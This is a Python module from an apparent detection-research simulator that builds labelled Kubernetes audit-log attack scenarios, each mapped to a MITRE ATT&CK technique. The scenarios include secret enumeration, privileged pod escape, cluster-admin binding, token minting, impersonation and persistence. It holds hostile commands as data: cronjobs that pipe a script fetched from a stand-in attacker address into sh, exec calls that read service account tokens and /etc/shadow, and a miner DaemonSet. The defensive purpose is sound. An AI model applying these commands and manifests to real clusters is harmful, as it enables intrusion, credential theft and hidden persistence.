"""A library of labelled attacks, each the API calls a real intruder makes for one technique.

Every attack comes in two variants. *Loud* is what tools such as kube-hunter, Peirates or a
hurried intruder produce: a burst of calls, often from a new client. *Quiet* is an intruder
who knows audit logs exist: few calls, spread over business hours, from the victim's own
pod or machine with the victim's user agent wherever copying it is possible.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

import numpy as np

from scenarios.cluster import Actor, Cluster, sa_identity
from scenarios.eks import Call, Identity

#: TEST-NET-1 (RFC 5737): addresses no simulated actor uses, standing in for the internet.
ATTACKER_NET = "192.0.2"
CURL = "curl/8.5.0"


@dataclass
class Context:
    """What an attack builder may look at: the cluster, its own RNG and the variant."""

    cluster: Cluster
    rng: np.random.Generator
    loud: bool

    def app(self, i: int) -> Actor:
        apps = self.cluster.actors_of("app")
        return apps[i % len(apps)]

    def person(self, kind: str, i: int = 0) -> Actor:
        people = self.cluster.actors_of(kind)
        return people[i % len(people)]

    def external_ip(self) -> str:
        return f"{ATTACKER_NET}.{int(self.rng.integers(2, 254))}"

    def namespaces(self, n_quiet: int) -> list[str]:
        ns = self.cluster.namespaces
        if self.loud:
            return list(ns)
        picks = self.rng.choice(len(ns), size=min(n_quiet, len(ns)), replace=False)
        return [ns[i] for i in sorted(picks)]


Steps = list[tuple[Call, Identity]]


@dataclass(frozen=True)
class Attack:
    """A named, documented attack scenario mapped to MITRE ATT&CK."""

    name: str
    technique: str
    title: str
    summary: str
    build: Callable[[Context], Steps]
    off_hours: bool = False  # the loud variant happens at night (victim's time)


def _in_pod(actor: Actor, ctx: Context) -> Identity:
    """The victim SA as used by an intruder inside its pod: same IP; loud brings kubectl."""
    if ctx.loud:
        return replace(actor.identity, user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b")
    return actor.identity


def secret_enumeration(ctx: Context) -> Steps:
    who = _in_pod(ctx.app(0), ctx)
    own = ctx.app(0).namespace
    steps = [(Call("list", "secrets", None, query="limit=500", allowed=False), who)] if ctx.loud else []
    for ns in ctx.namespaces(3):
        steps.append((Call("list", "secrets", ns, query="limit=500", allowed=(ns == own)), who))
        if ns == own and ctx.loud:
            steps += [(Call("get", "secrets", ns, name), who) for name in ("db-credentials", f"{ns}-tls")]
    return steps


def permission_discovery(ctx: Context) -> Steps:
    who = _in_pod(ctx.app(1), ctx)
    steps: Steps = []
    for ns in ctx.namespaces(2):
        steps.append(
            (
                Call(
                    "create",
                    "selfsubjectrulesreviews",
                    body={
                        "kind": "SelfSubjectRulesReview",
                        "apiVersion": "authorization.k8s.io/v1",
                        "spec": {"namespace": ns},
                    },
                ),
                who,
            )
        )
    checks = [
        ("create", "pods"),
        ("create", "pods/exec"),
        ("get", "secrets"),
        ("list", "secrets"),
        ("create", "clusterrolebindings"),
        ("impersonate", "users"),
        ("create", "serviceaccounts/token"),
        ("patch", "configmaps"),
        ("create", "daemonsets"),
        ("escalate", "clusterroles"),
        ("bind", "clusterroles"),
        ("approve", "certificatesigningrequests"),
    ]
    for verb, resource in checks if ctx.loud else checks[:2]:
        res, _, sub = resource.partition("/")
        steps.append(
            (
                Call(
                    "create",
                    "selfsubjectaccessreviews",
                    body={
                        "kind": "SelfSubjectAccessReview",
                        "apiVersion": "authorization.k8s.io/v1",
                        "spec": {"resourceAttributes": {"verb": verb, "resource": res, "subresource": sub}},
                    },
                ),
                who,
            )
        )
    return steps


def exec_into_pods(ctx: Context) -> Steps:
    human = ctx.person("developer", 1)
    who = human.identity
    targets = [("kube-system", p) for p in ctx.cluster.pods["kube-system"][:3]]
    targets += [(ns, ctx.cluster.pods[ns][0]) for ns in ctx.cluster.app_namespaces[:3]]
    if not ctx.loud:
        targets = [targets[-1], targets[0]]
    commands = [
        "cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
        "env",
        "cat+%2Fetc%2Fshadow",
        "id",
    ]
    steps: Steps = []
    for i, (ns, pod) in enumerate(targets):
        cmd = commands[i % len(commands)]
        steps.append(
            (
                Call(
                    "create",
                    "pods",
                    ns,
                    pod,
                    "exec",
                    query=f"command=sh&command=-c&command={cmd}&container=main&stderr=true&stdout=true",
                    duration_s=2.0,
                ),
                who,
            )
        )
    return steps


def _pod_spec(image: str, privileged: bool, host_root: bool, host_pid: bool, command: list[str]) -> dict:
    spec: dict = {
        "containers": [
            {
                "name": "main",
                "image": image,
                "command": command,
                "securityContext": {"privileged": privileged},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}] if host_root else [],
            }
        ]
    }
    if host_root:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}]
    if host_pid:
        spec["hostPID"] = True
        spec["hostNetwork"] = True
    return spec


def privileged_pod(ctx: Context) -> Steps:
    ci = ctx.person("ci").identity
    who = (
        replace(ci, user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", ips=(ctx.external_ip(),))
        if ctx.loud
        else ci
    )
    if ctx.loud:
        ns, name, image = "kube-system", "node-debugger-x7k2p", "alpine:3.19"
        spec = _pod_spec(image, True, True, True, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
    else:
        app = ctx.cluster.app_namespaces[0]
        ns, name = app, f"{app}-api-migrate-{int(ctx.rng.integers(1000, 9999))}"
        image = f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{app}-api:4412"
        spec = _pod_spec(image, True, True, False, ["/bin/migrate"])
    body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec}
    steps: Steps = [(Call("create", "pods", ns, name, body=body), who)]
    if ctx.loud:
        steps.append((Call("get", "pods", ns, name), who))
        steps.append(
            (
                Call(
                    "create",
                    "pods",
                    ns,
                    name,
                    "exec",
                    query="command=sh&stdin=true&stdout=true&tty=true",
                    duration_s=300.0,
                ),
                who,
            )
        )
    return steps


def cluster_admin_binding(ctx: Context) -> Steps:
    victim = ctx.app(2)
    who = _in_pod(victim, ctx)
    steps: Steps = []
    subject: dict[str, str | None]
    if ctx.loud:
        steps.append(
            (
                Call(
                    "create",
                    "serviceaccounts",
                    "kube-system",
                    "kube-helper",
                    body={
                        "kind": "ServiceAccount",
                        "apiVersion": "v1",
                        "metadata": {"name": "kube-helper", "namespace": "kube-system"},
                    },
                ),
                who,
            )
        )
        subject = {"kind": "ServiceAccount", "name": "kube-helper", "namespace": "kube-system"}
        name = "kube-helper-admin"
    else:
        subject = {
            "kind": "ServiceAccount",
            "name": victim.identity.username.rsplit(":", 1)[1],
            "namespace": victim.namespace,
        }
        name = "system:metrics-server-aggregated-reader"
    steps.append(
        (
            Call(
                "create",
                "clusterrolebindings",
                None,
                name,
                body={
                    "kind": "ClusterRoleBinding",
                    "apiVersion": "rbac.authorization.k8s.io/v1",
                    "metadata": {"name": name},
                    "roleRef": {
                        "apiGroup": "rbac.authorization.k8s.io",
                        "kind": "ClusterRole",
                        "name": "cluster-admin",
                    },
                    "subjects": [subject],
                },
            ),
            who,
        )
    )
    if ctx.loud:
        helper = sa_identity("kube-system", "kube-helper", who.ips, CURL, ctx.rng)
        steps += [
            (Call("list", "secrets", None, query="limit=500"), helper),
            (Call("list", "nodes", query="limit=500"), helper),
        ]
    return steps


def token_request(ctx: Context) -> Steps:
    who = _in_pod(ctx.app(3), ctx)
    targets = [
        ("kube-system", "clusterrole-aggregation-controller"),
        ("argocd", "argocd-application-controller"),
        ("kube-system", "generic-garbage-collector"),
        ("cert-manager", "cert-manager"),
        ("monitoring", "prometheus-k8s"),
    ]
    targets = targets if ctx.loud else targets[1:2]
    steps: Steps = []
    for ns, sa in targets:
        steps.append(
            (
                Call(
                    "create",
                    "serviceaccounts",
                    ns,
                    sa,
                    "token",
                    body={
                        "kind": "TokenRequest",
                        "apiVersion": "authentication.k8s.io/v1",
                        "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 86400},
                    },
                ),
                who,
            )
        )
    # The minted token is then used: the other account acts from the intruder's pod.
    ns, sa = targets[0]
    minted = sa_identity(ns, sa, who.ips, CURL if ctx.loud else who.user_agent, ctx.rng)
    for target_ns in ctx.cluster.namespaces if ctx.loud else ctx.cluster.app_namespaces[:1]:
        steps.append((Call("list", "secrets", target_ns, query="limit=500"), minted))
    return steps


def stolen_token_external(ctx: Context) -> Steps:
    victim = ctx.app(4)
    ua = CURL if ctx.loud else "python-requests/2.31.0"
    who = replace(victim.identity, ips=(ctx.external_ip(),), user_agent=ua)
    steps: Steps = [(Call("get", path="/api", query=""), who), (Call("get", path="/version"), who)]
    steps += [(Call("get", "secrets", victim.namespace, "db-credentials"), who)]
    if ctx.loud:
        steps += [
            (Call("list", "pods", None, query="limit=500", allowed=False), who),
            (Call("list", "secrets", None, query="limit=500", allowed=False), who),
            (Call("list", "secrets", victim.namespace, query="limit=500"), who),
            (Call("list", "namespaces", query="limit=500", allowed=False), who),
        ]
    return steps


def anonymous_probing(ctx: Context) -> Steps:
    who = Identity(
        "system:anonymous",
        ("system:unauthenticated",),
        (ctx.external_ip(),),
        "Go-http-client/1.1" if ctx.loud else "Mozilla/5.0 (X11; Linux x86_64)",
    )
    paths = [
        "/version",
        "/api",
        "/apis",
        "/api/v1/namespaces",
        "/api/v1/pods",
        "/api/v1/secrets",
        "/api/v1/nodes",
        "/apis/apps/v1/deployments",
        "/api/v1/configmaps",
        "/api/v1/serviceaccounts",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "/metrics",
        "/logs",
        "/debug/pprof/",
        "/.well-known/openid-configuration",
        "/openid/v1/jwks",
        "/api/v1/namespaces/kube-system/secrets",
        "/apis/batch/v1/jobs",
        "/api/v1/services",
        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
    ]
    allowed = {"/version", "/.well-known/openid-configuration", "/openid/v1/jwks"}
    chosen = paths * 3 if ctx.loud else ["/version", "/api", "/api/v1/namespaces", "/api/v1/secrets"]
    return [(Call("get", path=p, allowed=p in allowed), who) for p in chosen]


def _cron_body(name: str, ns: str, image: str, command: list[str], host: bool) -> dict:
    pod = _pod_spec(image, host, host, host, command)
    pod["restartPolicy"] = "OnFailure"
    return {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod}}}},
    }


def cronjob_persistence(ctx: Context) -> Steps:
    ci = ctx.person("ci").identity
    if ctx.loud:
        who = replace(ci, ips=(ctx.external_ip(),), user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b")
        name, ns, image = "kube-cleanup", "kube-system", "alpine:3.19"
        cmd = ["sh", "-c", "wget -qO- http://192.0.2.66/x.sh | sh"]
    else:
        who = ci
        ns = ctx.cluster.app_namespaces[1]
        name, image = f"{ns}-report", f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{ns}-api:4412"
        cmd = ["sh", "-c", "curl -s https://192.0.2.66/r | sh"]
    body = _cron_body(name, ns, image, cmd, ctx.loud)
    return [(Call("create", "cronjobs", ns, name, body=body), who)]


def daemonset_persistence(ctx: Context) -> Steps:
    admin = ctx.person("admin", 0)
    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
    name = "node-agent-ext" if ctx.loud else "aws-node-metrics"
    pod = _pod_spec(
        "docker.io/xmrig/xmrig:latest" if ctx.loud else "public.ecr.aws/amazonlinux/amazonlinux:2",
        True,
        True,
        ctx.loud,
        ["/bin/sh", "-c", "sleep infinity"],
    )
    body = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "selector": {"matchLabels": {"app": name}},
            "template": {"metadata": {"labels": {"app": name}}, "spec": pod},
        },
    }
    steps: Steps = [(Call("create", "daemonsets", "kube-system", name, body=body), who)]
    if ctx.loud:
        steps += [(Call("list", "pods", "kube-system", query=f"labelSelector=app%3D{name}"), who)]
    return steps


def mutating_webhook(ctx: Context) -> Steps:
    admin = ctx.person("admin", 1)
    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
    name = "pod-policy.example.dev" if ctx.loud else "vpc-resource-mutating-webhook-v2"
    body = {
        "kind": "MutatingWebhookConfiguration",
        "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "inject.pod-policy.example.dev",
                "clientConfig": {"url": "https://192.0.2.66:8443/mutate"},
                "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                "failurePolicy": "Ignore",
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }
        ],
    }
    steps: Steps = [(Call("create", "mutatingwebhookconfigurations", None, name, body=body), who)]
    if ctx.loud:
        steps.insert(0, (Call("list", "mutatingwebhookconfigurations", query="limit=500"), who))
    return steps


def aws_auth_edit(ctx: Context) -> Steps:
    admin = ctx.person("admin", 0)
    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
    role = (
        "arn:aws:iam::444455556666:role/ext-support" if ctx.loud else "arn:aws:iam::111122223333:role/eks-node-group-2"
    )
    username = "ext-support" if ctx.loud else "system:node:{{EC2PrivateDNSName}}"
    map_roles = f"- rolearn: {role}\n  username: {username}\n  groups:\n  - system:masters\n"
    steps: Steps = [
        (Call("get", "configmaps", "kube-system", "aws-auth"), who),
        (
            Call(
                "patch",
                "configmaps",
                "kube-system",
                "aws-auth",
                body={"kind": "ConfigMap", "apiVersion": "v1", "data": {"mapRoles": map_roles}},
            ),
            who,
        ),
    ]
    return steps


def events_deleted(ctx: Context) -> Steps:
    who = _in_pod(ctx.app(2), ctx)
    if ctx.loud:
        return [
            (Call("deletecollection", "events", ns), who)
            for ns in ("kube-system", "default", *ctx.cluster.app_namespaces)
        ]
    ns = ctx.app(2).namespace
    return [(Call("delete", "events", ns, f"{ns}-api.17c2a{int(ctx.rng.integers(1000, 9999))}"), who) for _ in range(2)]


def csr_approval(ctx: Context) -> Steps:
    who = _in_pod(ctx.app(5), ctx)
    name = "node-csr-x91kq" if not ctx.loud else "admin-access"
    body = {
        "kind": "CertificateSigningRequest",
        "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": name},
        "spec": {
            "request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
            "signerName": "kubernetes.io/kube-apiserver-client",
            "groups": ["system:masters", "system:authenticated"],
            "usages": ["client auth"],
        },
    }
    steps: Steps = [
        (Call("create", "certificatesigningrequests", None, name, body=body), who),
        (
            Call(
                "update",
                "certificatesigningrequests",
                None,
                name,
                "approval",
                body={
                    "kind": "CertificateSigningRequest",
                    "apiVersion": "certificates.k8s.io/v1",
                    "status": {"conditions": [{"type": "Approved", "status": "True"}]},
                },
            ),
            who,
        ),
        (Call("get", "certificatesigningrequests", None, name), who),
    ]
    return steps


def impersonation(ctx: Context) -> Steps:
    who = ctx.person("developer", 0).identity
    target = "system:admin" if ctx.loud else "eks:addon-manager"
    steps: Steps = []
    for ns in ctx.namespaces(1):
        steps.append((Call("list", "secrets", ns, query="limit=500", impersonate=target), who))
    if ctx.loud:
        steps.append((Call("list", "nodes", query="limit=500", impersonate=target), who))
    return steps


def night_session_new_country(ctx: Context) -> Steps:
    admin = ctx.person("admin", 1)
    ua = "kubectl/v1.28.4 (windows/amd64) kubernetes/bae2c62" if ctx.loud else admin.identity.user_agent
    who = replace(admin.identity, ips=(ctx.external_ip(),), user_agent=ua)
    steps: Steps = [
        (Call("get", path="/api", query="timeout=32s"), who),
        (Call("get", path="/apis", query="timeout=32s"), who),
    ]
    for ns in ctx.namespaces(2):
        steps.append((Call("list", "secrets", ns, query="limit=500"), who))
    if ctx.loud:
        steps += [
            (Call("list", "nodes", query="limit=500"), who),
            (Call("get", "configmaps", "kube-system", "aws-auth"), who),
        ]
    return steps


ATTACKS: dict[str, Attack] = {
    a.name: a
    for a in [
        Attack(
            "secret_enumeration",
            "T1552.007",
            "Unsecured Credentials: Container API",
            "A compromised application service account lists secrets namespace by namespace; most attempts are denied.",
            secret_enumeration,
        ),
        Attack(
            "permission_discovery",
            "T1069",
            "Permission Groups Discovery",
            "A compromised service account asks what it may do: SelfSubjectRulesReview per "
            "namespace and SelfSubjectAccessReview for dangerous verbs (kubectl auth can-i).",
            permission_discovery,
        ),
        Attack(
            "exec_into_pods",
            "T1609",
            "Container Administration Command",
            "A developer identity that never execs opens shells in pods, kube-system included, "
            "and reads the service account token.",
            exec_into_pods,
            off_hours=True,
        ),
        Attack(
            "privileged_pod",
            "T1611",
            "Escape to Host",
            "Stolen CI credentials create a bare privileged pod with hostPath / (and hostPID, "
            "hostNetwork when loud), then exec into it.",
            privileged_pod,
        ),
        Attack(
            "cluster_admin_binding",
            "T1098.006",
            "Account Manipulation: Additional Container Cluster Roles",
            "A service account binds a new (loud) or its own (quiet) service account to cluster-admin.",
            cluster_admin_binding,
        ),
        Attack(
            "token_request",
            "T1528",
            "Steal Application Access Token",
            "A service account mints tokens for more powerful service accounts with the "
            "TokenRequest API, then uses one.",
            token_request,
        ),
        Attack(
            "stolen_token_external",
            "T1550.001",
            "Use Alternate Authentication Material: Application Access Token",
            "An application's service account token is used from outside the VPC with curl or python-requests.",
            stolen_token_external,
            off_hours=True,
        ),
        Attack(
            "anonymous_probing",
            "T1595",
            "Active Scanning",
            "Unauthenticated requests probe many API endpoints, as kube-hunter does.",
            anonymous_probing,
            off_hours=True,
        ),
        Attack(
            "cronjob_persistence",
            "T1053.007",
            "Scheduled Task/Job: Container Orchestration Job",
            "Stolen CI credentials create a CronJob that downloads and runs a script.",
            cronjob_persistence,
        ),
        Attack(
            "daemonset_persistence",
            "T1543.005",
            "Create or Modify System Process: Container Service",
            "A platform admin session creates a privileged DaemonSet in kube-system (a miner, when loud).",
            daemonset_persistence,
            off_hours=True,
        ),
        Attack(
            "mutating_webhook",
            "T1546",
            "Event Triggered Execution (malicious admission controller)",
            "A mutating admission webhook is registered that sends every pod create to an external URL.",
            mutating_webhook,
            off_hours=True,
        ),
        Attack(
            "aws_auth_edit",
            "T1098",
            "Account Manipulation",
            "The aws-auth ConfigMap is patched to map an IAM role to system:masters.",
            aws_auth_edit,
            off_hours=True,
        ),
        Attack(
            "events_deleted",
            "T1070",
            "Indicator Removal",
            "A service account deletes Kubernetes events to cover its tracks.",
            events_deleted,
        ),
        Attack(
            "csr_approval",
            "T1649",
            "Steal or Forge Authentication Certificates",
            "A CSR for a system:masters client certificate is created and approved by the same identity.",
            csr_approval,
        ),
        Attack(
            "impersonation",
            "T1134",
            "Access Token Manipulation (impersonation)",
            "A developer identity impersonates a privileged user to read secrets.",
            impersonation,
        ),
        Attack(
            "night_session_new_country",
            "T1078.004",
            "Valid Accounts: Cloud Accounts",
            "A platform admin's IAM session is used at 03:00 local time from a new country.",
            night_session_new_country,
            off_hours=True,
        ),
    ]
}


def schedule(
    attack: Attack, steps: Steps, ctx: Context, day: datetime, tz_offset: int
) -> list[tuple[datetime, Call, Identity]]:
    """Give each step a time: a burst (loud) or calls spread over business hours (quiet)."""
    rng = ctx.rng
    if ctx.loud:
        local_hour = 3 if attack.off_hours else int(rng.integers(10, 17))
        start = day + timedelta(hours=(local_hour - tz_offset) % 24, seconds=float(rng.uniform(0, 1800)))
        gaps = np.cumsum(rng.gamma(1.2, 1.5, size=len(steps)))
        return [(start + timedelta(seconds=float(g)), c, w) for g, (c, w) in zip(gaps, steps, strict=True)]
    local_hour = 3 if attack.name == "night_session_new_country" else 9
    span = 1800.0 if local_hour == 3 else 8 * 3600.0
    begin = day + timedelta(hours=(local_hour - tz_offset) % 24)
    offsets = np.sort(rng.uniform(0, span, size=len(steps)))
    return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(offsets, steps, strict=True)]
